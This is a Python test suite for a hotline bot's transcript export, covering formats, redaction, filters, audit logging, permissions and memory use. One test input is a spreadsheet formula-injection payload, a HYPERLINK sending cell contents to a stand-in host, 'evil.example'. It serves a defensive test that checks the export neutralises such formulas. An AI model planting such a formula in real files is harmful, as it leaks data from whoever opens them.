"""Transcript export: reports made through the signed webhook, exported in every format, read
back with real readers and checked row by row against the stored messages; redaction, filters,
the audit log, the CLI's permissions, and flat memory on 100,000 messages."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import tracemalloc
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import func, insert, select
from sqlalchemy.exc import DBAPIError

from bot.cli import main
from bot.render import redact
from bot.render.export import (
    BOM,
    CASE_COLUMNS,
    CSV_COLUMNS,
    MESSAGE_COLUMNS,
    ExportRefused,
    authorize,
    export_counts,
    export_response,
)
from storage.models import Area, AuditLog, Case, Contact, Member, Message, Shift, Site, User
from storage.transcripts import Filters, messages, snapshot
from tests.conftest import MSB_NUMBER, Clock, Resident, work
from tests.test_console import accounts_made, login  # noqa: F401 (a fixture)
from tests.test_console_walkin import _made, _post

SECRET = "test-export-secret"
RESIDENT, RESIDENT_B, RESIDENT_C = "+6281234567890", "+6285711112222", "+6287733334444"
ANI, KOORD = "+628110001001", "+628110001009"
PHONE_IN_TEXT = "0812-9876-5432"
NIK = "7372 0145 0890 0001"
STORY_A = f"Saya dipukul suami — hubungi kakak saya {PHONE_IN_TEXT}, NIK {NIK}, rumah dekat café"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
# Kekerasan in Lompoe, messages wanted, a name given; dokumen in Lemoe (WhatsApp) and Paokmotong:
# for whom (and, on SMS, a disability), then the document (and, on SMS, the story).
REPORT_A = (
    "halo",
    "iya",
    "ok setuju",
    "1",
    "gak",
    "sy sendiri 34",
    "LEWATI",  # a disability: not said
    STORY_A,
    "suami",
    "lompoe",
    "2 kapan saja",
    "LEWATI",
    "1 Siti Aminah",
)  # SMS, questions in pairs; any time: notices go at once; 13 messages, the last at 10:13
REPORT_B = ("halo", "ya", "ya", "dokumen", "anak", "LEWATI", "akta", FORMULA, "lemoe", "3", "LEWATI", "1")
REPORT_C = ("halo", "ya", "ya", "dokumen", "2", "3 Akta anak belum jadi", "paokmotong", "3",
            "LEWATI", "1")  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
WITA = timezone(timedelta(hours=8))
# Days ahead of the real clock: jobs the hotline schedules (offer deadlines) must lie in the
# future for rq, as they would in production. DAY1 is the day of case A.
DAY1 = (datetime.now(UTC) + timedelta(days=3)).date()


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """UTC time on DAY1 + day."""
    return datetime.combine(DAY1 + timedelta(days=day), datetime.min.time(), UTC).replace(
        hour=hour, minute=minute
    )


def day(n: int) -> date:
    return DAY1 + timedelta(days=n)


# --------------------------------------------------------------------------- the cases


def talk(person: Resident, clock: Clock, *bodies: str, **extra: str) -> str:
    for body in bodies:
        clock.advance(minutes=1)  # every message its own minute: time order is message order
        person.says(body, **extra)
    return person.last


def code_in(reply: str, prefix: str) -> str:
    found = re.search(rf"Kode: ({prefix}-\w{{5}})", reply)
    assert found, reply
    return found.group(1)


@pytest.fixture
def world(app, client, hotline, redis, clock: Clock) -> dict[str, str]:
    """Three cases. A: PRE/Lompoe kekerasan by SMS on DAY1 (WITA), accepted, referred, relayed
    both ways and closed by Bu Ani. B: PRE/Lemoe dokumen by WhatsApp at 00:30 WITA on DAY1 + 2
    (still DAY1 + 1 in UTC), its story a formula with a photo. C: MSB/Paokmotong dokumen, DAY1 + 4."""
    with hotline.db.session() as s:
        site = s.scalars(select(Site).where(Site.prefix == "PRE")).one()
        lompoe = s.scalars(select(Area).where(Area.site_id == site.id, Area.name == "Lompoe")).one()
        s.add_all(
            [
                Member(
                    site_id=site.id,
                    area_id=lompoe.id,
                    name="Bu Ani",
                    phone=ANI,
                    channel="sms",
                    shifts=[Shift(weekday=None, start_minute=0, end_minute=1440)],
                ),
                Member(site_id=site.id, name="Koordinator", phone=KOORD, role="koordinator", channel="sms"),
            ]
        )
    clock.now = at(0, 2)  # 10:00 WITA
    warga = Resident(client, RESIDENT)
    a = code_in(talk(warga, clock, *REPORT_A), "PRE")
    work(app, redis, until=clock())
    ani = Resident(client, ANI)
    short = a.split("-")[1]
    assert a in talk(ani, clock, f"TERIMA {short}")
    assert "UPTD PPA" in talk(ani, clock, f"RUJUK {short} uptd ppa")
    assert "diteruskan" in talk(ani, clock, f"BALAS {short} Ibu Siti, kami datang besok jam 9")
    work(app, redis, until=clock())
    assert "diteruskan" in talk(warga, clock, "baik bu, terima kasih — Siti")
    work(app, redis, until=clock())
    assert "ditutup" in talk(ani, clock, f"SELESAI {short} sudah dirujuk")
    work(app, redis, until=clock())

    clock.now = at(1, 16, 30)  # DAY1 + 2, 00:30 WITA
    b_person = Resident(client, RESIDENT_B, whatsapp=True)
    story = REPORT_B.index(FORMULA)
    talk(b_person, clock, *REPORT_B[:story])
    media = {"NumMedia": "1", "MediaUrl0": "https://api.twilio.com/m/1", "MediaContentType0": "image/jpeg"}
    talk(b_person, clock, REPORT_B[story], **media)
    b = code_in(talk(b_person, clock, *REPORT_B[story + 1 :]), "PRE")

    clock.now = at(4, 3)
    c = code_in(talk(Resident(client, RESIDENT_C, to=MSB_NUMBER), clock, *REPORT_C), "MSB")
    work(app, redis, until=clock())
    return {"A": a, "B": b, "C": c}


def stored(hotline, codes: list[str]) -> list[dict[str, Any]]:
    """The messages of these cases as the export must list them."""
    with hotline.db.session() as s:
        rows = s.execute(
            select(Message, Case.code, Case.contact_id, Contact.name, Contact.profile_name)
            .join(Case, Case.id == Message.case_id)
            .outerjoin(Contact, Contact.id == Case.contact_id)
            .where(Case.code.in_(codes))
            .order_by(Case.created_at, Case.id, Message.created_at, Message.id)
        ).all()
        return [
            {
                "case": code,
                "time": m.created_at.astimezone(UTC).isoformat(),
                "direction": m.direction,
                "party": m.party,
                "channel": m.channel,
                "body": m.body,
                "media": m.num_media,
                "contact_id": contact_id,
                "names": [n for n in (name, profile) if n],
            }
            for m, code, contact_id, name, profile in rows
        ]


def run_export(hotline, fmt: str, filters: Filters | None = None, **options: Any) -> bytes:
    out = io.BytesIO()
    options = {"actor": "test", "secret": SECRET, **options}
    count = export_counts(hotline.db, filters or Filters(), fmt, out, **options).messages
    data = out.getvalue()
    assert count == len(read(fmt, data)["messages"])
    return data


def read(fmt: str, data: bytes) -> dict[str, list[dict[str, Any]]]:
    """Any format, read back with its real reader, as lists of dicts."""
    if fmt == "csv":
        assert data.startswith(BOM)
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert rows == [] or list(rows[0]) == list(CSV_COLUMNS)
        return {"messages": [r for r in rows if r["time"]], "rows": rows}
    if fmt == "jsonl":
        lines = [json.loads(line) for line in data.decode("utf-8").splitlines()]
        kinds = [line.pop("type") for line in lines]
        assert kinds == sorted(kinds)  # "case" lines, then "message" lines
        return {
            "cases": [x for x, k in zip(lines, kinds, strict=True) if k == "case"],
            "messages": [x for x, k in zip(lines, kinds, strict=True) if k == "message"],
        }
    book = load_workbook(io.BytesIO(data), read_only=True)
    assert book.sheetnames == ["cases", "messages"]
    out = {}
    for name, columns in (("cases", CASE_COLUMNS), ("messages", MESSAGE_COLUMNS)):
        header, *rows = book[name].iter_rows(values_only=True)
        assert header == columns
        out[name] = [dict(zip(columns, row, strict=True)) for row in rows]
    book.close()
    return out


def local(iso_utc: str) -> str:
    return datetime.fromisoformat(iso_utc).astimezone(WITA).isoformat(timespec="seconds")


def contact_of(hotline, phone: str) -> int:
    with hotline.db.session() as s:
        return s.scalars(select(Contact.id).where(Contact.phone == phone)).one()


# --------------------------------------------------------------------------- formats


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_every_message_row_by_row_in_every_format(hotline, world, fmt: str) -> None:
    expected = stored(hotline, [world["A"], world["B"], world["C"]])
    got = read(fmt, run_export(hotline, fmt))["messages"]
    assert len(got) == len(expected) > 40
    for row, want in zip(got, expected, strict=True):
        assert row["case"] == want["case"]
        assert row["time"] == local(want["time"]) and row["time"].endswith("+08:00")  # WITA
        assert row["direction"] == want["direction"] and row["channel"] == want["channel"]
        assert int(row["media"]) == want["media"]
        text = redact.redact(want["body"], want["names"])
        if fmt == "csv" and text.startswith(FORMULA_START):
            text = "'" + text
        assert row["text"] == text
        resident = redact.pseudonym(want["contact_id"], SECRET)
        if want["party"] == "resident":
            assert row["party"] == resident
        elif want["party"] == "bot":
            assert row["party"] == "bot"
        else:
            assert row["party"] == "Bu Ani"
    by_case = {r["case"] for r in got}
    assert by_case == set(world.values())
    # The conversation reads as one: the resident's words, the bot's replies, Bu Ani's commands.
    a_rows = [r for r in got if r["case"] == world["A"]]
    warga = redact.pseudonym(contact_of(hotline, RESIDENT), SECRET)
    assert {"Bu Ani", "bot", warga} <= {r["party"] for r in a_rows}
    # Bu Ani's BALAS reaches the resident, the resident's answer reaches her; never their names.
    balas, relay = [r for r in a_rows if "kami datang besok jam 9" in r["text"]][:2]
    assert (balas["party"], balas["to"], relay["to"]) == ("Bu Ani", "hotline", warga)
    assert balas["text"].endswith("Ibu [nama], kami datang besok jam 9")
    answer, relay = [r for r in a_rows if "baik bu, terima kasih" in r["text"]][:2]
    assert (answer["party"], answer["to"], relay["to"]) == (warga, "hotline", "Bu Ani")
    b_rows = [r for r in got if r["case"] == world["B"]]
    assert {r["channel"] for r in b_rows if "Warga-" in r["party"] + r["to"]} == {"whatsapp"}
    assert [int(r["media"]) for r in b_rows if FORMULA in r["text"]][:1] == [1]
    assert any("é" in r["text"] and "—" in r["text"] for r in a_rows)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_cases_with_category_area_status_times_and_referrals(hotline, world, fmt: str) -> None:
    data = read(fmt, run_export(hotline, fmt))
    if fmt == "csv":  # the case columns ride on every message row
        cases = {r["case"]: r for r in data["rows"]}
    else:
        cases = {r["case"]: r for r in data["cases"]}
        assert list(cases) == [world["A"], world["B"], world["C"]]  # oldest first
    a, b, c = cases[world["A"]], cases[world["B"]], cases[world["C"]]
    assert (a["site"], a["area"], a["category"], a["status"]) == ("PRE", "Lompoe", "kekerasan", "closed")
    assert (b["site"], b["area"], b["category"], b["status"]) == ("PRE", "Lemoe", "dokumen", "offered")
    assert (c["site"], c["area"]) == ("MSB", "Paokmotong")
    assert a["urgent"] in (False, "no") and a["holder"] == "Bu Ani"
    assert a["referrals"] in (["UPTD PPA"], "UPTD PPA") and b["referrals"] in ([], "", None)
    assert a["created"] == f"{day(0)}T10:13:00+08:00"
    assert a["created"] < a["accepted"] < a["closed"] and a["closed"].endswith("+08:00")
    assert b["created"] == f"{day(2)}T00:42:00+08:00" and b["accepted"] in (None, "")
    assert a["resident"] == redact.pseudonym(contact_of(hotline, RESIDENT), SECRET) != b["resident"]
    assert (a["came_by"], b["came_by"], c["came_by"]) == ("sms", "whatsapp", "sms")  # they wrote
    assert a["taken_by"] in (None, "") and b["taken_by"] in (None, "")  # and agreed themselves


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_a_walkin_case_says_how_it_came_and_who_heard_the_consent(client, hotline, accounts_made, fmt):
    login(client, "pare")
    posko = _made(hotline, _post(client))
    phoned = _made(hotline, _post(client, came_by="telepon"))
    with hotline.db.session() as s:  # as WARGA records it; a name typed as a number stays masked
        s.get_one(Case, phoned.id).consent_by = "member:Bu Ani 0811-0001-001"
    data = read(fmt, run_export(hotline, fmt))
    rows = {r["case"]: r for r in data["rows" if fmt == "csv" else "cases"]}
    assert (rows[posko.code]["came_by"], rows[posko.code]["taken_by"]) == ("posko", "user:pare")
    assert (rows[phoned.code]["came_by"], rows[phoned.code]["taken_by"]) == (
        "telepon",
        "member:Bu Ani ****001",
    )
    if fmt == "csv":
        assert rows[posko.code]["channel"] == ""  # the message's channel: no messages


def test_formulas_are_neutralised(hotline, world) -> None:
    rows = read("csv", run_export(hotline, "csv"))["rows"]
    cells = [value for row in rows for value in row.values()]
    assert "'" + FORMULA in cells
    assert not [v for v in cells if v.startswith(FORMULA_START)]
    xlsx = run_export(hotline, "xlsx")
    got = read("xlsx", xlsx)["messages"]
    assert FORMULA in [r["text"] for r in got]  # the text itself, stored as text
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere


def test_redacted_by_default_contacts_when_asked(hotline, world) -> None:
    digits = ["6281234567890", "081234567890", "81234567890", "081298765432", "98765432", "7372014508900001"]
    spelled = [PHONE_IN_TEXT, NIK, "Siti", "Aminah", RESIDENT_B[3:], RESIDENT_C[3:]]
    for fmt in ("csv", "jsonl", "xlsx"):
        data = run_export(hotline, fmt)
        if fmt == "xlsx":
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data = b"".join(z.read(n) for n in z.namelist())
        text = data.decode("utf-8")
        for needle in digits + spelled:
            assert needle.lower() not in text.lower(), (fmt, needle)
        assert "737201**********" in text and "****432" in text and "[nama]" in text

    first = read("jsonl", run_export(hotline, "jsonl"))
    second = read("jsonl", run_export(hotline, "jsonl"))
    pseudonyms = [c["resident"] for c in first["cases"]]
    assert pseudonyms == [c["resident"] for c in second["cases"]]  # stable across exports
    assert len(set(pseudonyms)) == 3 and all(re.fullmatch(r"Warga-[0-9A-Z]{8}", p) for p in pseudonyms)
    other_key = read("jsonl", run_export(hotline, "jsonl", secret="another"))
    assert not set(pseudonyms) & {c["resident"] for c in other_key["cases"]}

    full = read("jsonl", run_export(hotline, "jsonl", include_contacts=True))
    case_a = full["cases"][0]
    assert case_a["resident"] == f"Siti Aminah ({RESIDENT})"
    texts = [m["text"] for m in full["messages"]]
    assert STORY_A in texts and "1 Siti Aminah" in texts  # on SMS the name comes with "send"
    assert f"Siti Aminah ({RESIDENT})" in {m["party"] for m in full["messages"]}
    assert full["cases"][1]["resident"] == f"Warga ({RESIDENT_B})"  # WhatsApp profile name


# --------------------------------------------------------------------------- filters


def codes_of(hotline, filters: Filters) -> list[str]:
    rows = read("jsonl", run_export(hotline, "jsonl", filters))
    cases = [c["case"] for c in rows["cases"]]
    assert list(dict.fromkeys(m["case"] for m in rows["messages"])) == cases
    return cases


def test_filters(hotline, world) -> None:
    a, b, c = world["A"], world["B"], world["C"]
    assert codes_of(hotline, Filters()) == [a, b, c]
    assert codes_of(hotline, Filters(sites=("msb",))) == [c]
    assert codes_of(hotline, Filters(sites=("PRE",), areas=("lompoe",))) == [a]
    assert codes_of(hotline, Filters(areas=("Lemoe", "Paokmotong"))) == [b, c]
    assert codes_of(hotline, Filters(categories=("dokumen",))) == [b, c]
    assert codes_of(hotline, Filters(statuses=("closed",))) == [a]
    assert codes_of(hotline, Filters(statuses=("offered", "new"), sites=("PRE",))) == [b]
    short_b = b.split("-")[1].lower()
    assert codes_of(hotline, Filters(codes=(short_b,))) == [b]
    assert codes_of(hotline, Filters(codes=(a.lower(), c))) == [a, c]
    assert codes_of(hotline, Filters(codes=(f"pre {short_b}",))) == [b]
    # Local days: B came in at 00:30 WITA on DAY1 + 2, which is still DAY1 + 1 in UTC.
    assert codes_of(hotline, Filters(end=day(1))) == [a]
    assert codes_of(hotline, Filters(start=day(2))) == [b, c]
    assert codes_of(hotline, Filters(start=day(2), end=day(2))) == [b]
    assert codes_of(hotline, Filters(start=day(0), end=day(0), sites=("MSB",))) == []
    assert codes_of(hotline, Filters(categories=("bpjs",))) == []
    with pytest.raises(ValueError):
        Filters(codes=("not a code!",))
    with pytest.raises(ValueError):
        Filters(start=day(1), end=day(0))


def test_every_export_is_audited(hotline, world) -> None:
    filters = Filters(sites=("PRE",), categories=("kekerasan",))
    n = export_counts(hotline.db, filters, "csv", io.BytesIO(), actor="user:ina", secret=SECRET).messages
    export_counts(
        hotline.db, Filters(), "xlsx", io.BytesIO(), actor="shell:ops", include_contacts=True, secret=SECRET
    )
    with hotline.db.session() as s:
        first, second = s.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id))
        assert first.actor == "user:ina" and first.created_at is not None
        assert first.details == {
            "filters": {"sites": ["PRE"], "categories": ["kekerasan"]},
            "format": "csv",
            "include_contacts": False,
            "rows": n,
            "cases": 1,
            "complete": True,
        }
        assert second.actor == "shell:ops" and second.details["include_contacts"] is True
        assert second.details["cases"] == 3 and second.details["format"] == "xlsx"


def test_streamed_response_for_the_web(hotline, world) -> None:
    expected = len(stored(hotline, list(world.values())))
    for fmt in ("csv", "jsonl", "xlsx"):
        chunks, mimetype, filename = export_response(
            hotline.db, Filters(), fmt, actor="user:web", include_contacts=False, secret=SECRET
        )
        assert filename.endswith(f".{fmt}") and mimetype
        data = b"".join(chunks)
        assert len(read(fmt, data)["messages"]) == expected
    with hotline.db.session() as s:
        audits = s.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
        assert [a.details["rows"] for a in audits] == [expected] * 3
        assert all(a.details["complete"] for a in audits)

    # A client that goes away after the first chunk: the export shows, marked incomplete.
    chunks, _, _ = export_response(hotline.db, Filters(), "csv", actor="user:gone", secret=SECRET)
    assert next(chunks) == BOM
    chunks.close()  # what the WSGI server does when the client disconnects
    with hotline.db.session() as s:
        gone = s.scalars(select(AuditLog).where(AuditLog.actor == "user:gone")).one()
        assert gone.details["complete"] is False


def test_an_export_does_not_hold_up_the_webhook(hotline, world, client) -> None:
    """A read snapshot open mid-query (as during a slow download) while a resident texts in:
    the webhook goes through at once, and the export keeps seeing one state."""
    expected = len(stored(hotline, list(world.values())))
    with snapshot(hotline.db) as s:
        rows = messages(s, Filters())
        first = next(rows)
        before = s.scalar(select(func.count(Message.id)))
        started = time.monotonic()
        assert "pengaduan" in Resident(client, "+6281300000001").says("halo")
        assert time.monotonic() - started < 5
        assert s.scalar(select(func.count(Message.id))) == before
        assert 1 + len(list(rows)) == expected and first.case_code == world["A"]
    with hotline.db.session() as s:
        assert s.scalar(select(func.count(Message.id))) == before + 2


def test_snapshot_is_read_only(hotline, world) -> None:
    with pytest.raises(DBAPIError), snapshot(hotline.db) as s:
        s.execute(insert(AuditLog).values(actor="x", action="y", details={}))


# --------------------------------------------------------------------------- permissions and CLI


def users(hotline) -> None:
    with hotline.db.session() as s:
        s.add_all(
            [
                User(username="admin", password_hash="x", role="admin"),
                User(username="ina", password_hash="x", role="coordinator", sites=["PRE"], contacts=True),
                User(username="budi", password_hash="x", role="coordinator", sites=["MSB"]),
                User(username="off", password_hash="x", role="coordinator", sites=["PRE"], active=False),
            ]
        )


def test_authorize_narrows_to_the_accounts_sites(hotline) -> None:
    users(hotline)
    with hotline.db.session() as s:
        get = {u.username: u for u in s.scalars(select(User))}
    assert authorize(None, Filters(), True) == Filters()
    assert authorize(get["admin"], Filters(), True) == Filters()
    assert authorize(get["budi"], Filters(), False).sites == ("MSB",)
    assert authorize(get["ina"], Filters(sites=("pre",)), True).sites == ("PRE",)
    for name, filters, contacts in (
        ("budi", Filters(sites=("PRE",)), False),
        ("budi", Filters(), True),
        ("off", Filters(), False),
    ):
        with pytest.raises(ExportRefused):
            authorize(get[name], filters, contacts)


def cli(database_url: str, *args: str):  # type: ignore[no-untyped-def]
    env = {"DATABASE_URL": database_url, "TWILIO_AUTH_TOKEN": "", "SECRET_KEY": SECRET}
    return CliRunner().invoke(main, ["export", *args], env=env, catch_exceptions=False)


def test_cli_exports_and_refuses(hotline, world, database_url: str, tmp_path: Path) -> None:
    users(hotline)
    out = tmp_path / "pre.xlsx"
    result = cli(database_url, "--out", str(out), "--as", "ina", "--from", str(day(0)), "--to", str(day(9)))
    assert result.exit_code == 0, result.output
    pre = stored(hotline, [world["A"], world["B"]])
    assert f"{len(pre)} messages, 2 cases -> {out}" in result.stderr
    assert len(read("xlsx", out.read_bytes())["messages"]) == len(pre)  # format from the suffix
    assert out.stat().st_mode & 0o077 == 0  # personal data: only the owner reads it

    result = cli(
        database_url, "--format", "csv", "--out", str(tmp_path / "x.csv"), "--as", "budi", "--site", "PRE"
    )
    assert result.exit_code == 1 and "may not export site PRE" in result.stderr
    result = cli(
        database_url,
        "--format",
        "csv",
        "--out",
        str(tmp_path / "x.csv"),
        "--as",
        "budi",
        "--include-contacts",
    )
    assert result.exit_code == 1 and "may not see residents' contacts" in result.stderr
    result = cli(database_url, "--out", str(tmp_path / "x.csv"), "--as", "nobody")
    assert result.exit_code == 1 and "no console account 'nobody'" in result.stderr
    assert not (tmp_path / "x.csv").exists()

    result = cli(database_url, "--format", "jsonl", "--out", "-", "--code", world["C"].split("-")[1].lower())
    assert result.exit_code == 0, result.output
    rows = read("jsonl", result.stdout_bytes)
    assert [c["case"] for c in rows["cases"]] == [world["C"]]
    result = cli(database_url, "--out", "-", "--as", "ina", "--include-contacts", "--site", "pre")
    assert result.exit_code == 0 and RESIDENT in result.stdout
    result = cli(database_url, "--out", "-", "--site", "XYZ")
    assert result.exit_code == 2 and "no site XYZ" in result.output
    result = cli(database_url, "--out", "-", "--status", "lost")
    assert result.exit_code == 2

    with hotline.db.session() as s:
        actors = [a.actor for a in s.scalars(select(AuditLog).where(AuditLog.action == "export"))]
    assert actors[0] == "user:ina" and actors[1].startswith("shell:") and actors[2] == "user:ina"
    assert len(actors) == 3  # refused exports leave nothing to audit: nothing left the database


# --------------------------------------------------------------------------- memory


MESSAGES, CASES = 100_000, 1_000


def bulk_load(hotline, messages: int = MESSAGES, cases: int = CASES) -> None:
    """`messages` messages over `cases` cases, inserted directly, in chunks."""
    with hotline.db.session() as s:
        site = s.scalars(select(Site).where(Site.prefix == "PRE")).one()
        area = s.scalars(select(Area).where(Area.site_id == site.id)).first()
        contacts = [Contact(phone=f"+62812{i:08d}", name=f"Nama {i}") for i in range(50)]
        s.add_all(contacts)
        s.flush()
        t0 = datetime(2025, 1, 1, tzinfo=UTC)
        s.execute(
            insert(Case),
            [
                {
                    "code": f"PRE-{i:05d}",
                    "site_id": site.id,
                    "area_id": area.id if area else None,
                    "contact_id": contacts[i % 50].id,
                    "category": "kekerasan" if i % 2 else "bansos",
                    "status": "new",
                    "created_at": t0 + timedelta(hours=i),
                    "updated_at": t0 + timedelta(hours=i),
                }
                for i in range(cases)
            ],
        )
        ids = [
            (case_id, contact_id, created)
            for case_id, contact_id, created in s.execute(
                select(Case.id, Case.contact_id, Case.created_at).order_by(Case.id)
            )
        ]
    per_case = messages // cases
    chunk: list[dict[str, Any]] = []
    with hotline.db.session() as s:
        for n in range(messages):
            case_id, contact_id, created = ids[n // per_case]
            resident = n % 2 == 0
            chunk.append(
                {
                    "sid": f"BULK{n:08d}",
                    "direction": "in" if resident else "out",
                    "party": "resident" if resident else "bot",
                    "channel": "whatsapp",
                    "contact_id": contact_id,
                    "case_id": case_id,
                    "body": f"Pesan ke-{n} tentang kasus: hubungi 0812{n:08d} atau tetangga, NIK "
                    f"7372{n:012d}. Tolong dibantu secepatnya ya, terima kasih banyak bu — é",
                    "created_at": created + timedelta(seconds=n % per_case),
                }
            )
            if len(chunk) == 10_000:
                s.execute(insert(Message), chunk)
                chunk = []
        if chunk:
            s.execute(insert(Message), chunk)


def test_a_large_export_keeps_memory_flat(hotline, tmp_path: Path) -> None:
    """100,000 messages as CSV and JSON Lines, and as XLSX (openpyxl is slow under tracemalloc:
    bench/export.py measures it on all 100,000) 4 local days of them: 96 cases, 9,600 messages.
    Holding the rows would take 50 MB and more; openpyxl outside write-only mode 22 MB here."""
    bulk_load(hotline)
    days = Filters(start=date(2025, 1, 2), end=date(2025, 1, 5))  # cases 16..111, WITA days
    for fmt, filters, expected in (
        ("csv", Filters(), (MESSAGES, CASES)),
        ("jsonl", Filters(), (MESSAGES, CASES)),
        ("xlsx", days, (9_600, 96)),
    ):
        path = tmp_path / f"big.{fmt}"
        tracemalloc.start()
        try:
            with path.open("wb") as out:
                counts = export_counts(hotline.db, filters, fmt, out, actor="bench", secret=SECRET)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert (counts.messages, counts.cases) == expected
        assert peak < 12 * 2**20, f"{fmt}: peak {peak / 2**20:.1f} MB"
    with path.open("rb") as f:  # the XLSX opens, its cases in order
        book = load_workbook(f, read_only=True)
        codes = [row[0] for row in book["cases"].iter_rows(min_row=2, values_only=True)]
        book.close()
    assert codes == [f"PRE-{i:05d}" for i in range(16, 112)]
